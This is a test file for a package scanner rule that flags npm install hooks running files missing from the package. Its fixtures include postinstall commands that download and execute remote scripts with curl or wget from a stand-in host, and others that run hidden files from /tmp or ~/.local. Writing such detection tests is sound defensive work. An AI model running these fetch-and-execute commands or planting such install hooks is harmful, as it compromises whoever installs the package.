import { describe, expect, it } from 'vitest';
import { fileStats, packageFacts } from '../rule-test-kit.js';
import { installScriptMissingFile as rule } from './install-script-missing-file.js';

const run = (hook: string, command: string, files: string[] = ['index.js', 'package.json']) =>
  rule.run(
    packageFacts({
      manifest: { installScripts: { [hook]: command } },
      files: files.map((f) => fileStats(f)),
    }),
  );

describe('install-script-missing-file', () => {
  it.each([
    ['curl -s https://x.invalid/p.js -o /tmp/p.js && node /tmp/p.js', 'high', 'high'],
    ['wget -q https://x.invalid/s.sh && sh s.sh', 'high', 'high'],
    ['node /tmp/.cache/helper.js', 'high', 'medium'],
    ['sh ~/.local/bin/run.sh', 'high', 'medium'],
    ['node scripts/setup.js', 'medium', 'low'],
  ])('grades %s as %s/%s', (command, severity, confidence) => {
    expect(run('postinstall', command)).toMatchObject([{ severity, confidence }]);
  });

  it.each([
    ['postinstall', 'node install.js', ['install.js']],
    ['postinstall', 'node ./lib/postinstall', ['lib/postinstall.js']],
    ['prepare', 'tshy && bash build.sh', []],
    ['postinstall', 'node scripts/optional.js || true', []],
    ['install', 'node node_modules/esbuild/install.js', []],
    ['install', 'node-gyp rebuild', []],
    ['postinstall', 'husky install', []],
  ])('is silent for %s: %s', (hook, command, files) => {
    expect(run(hook, command, files)).toEqual([]);
  });
});
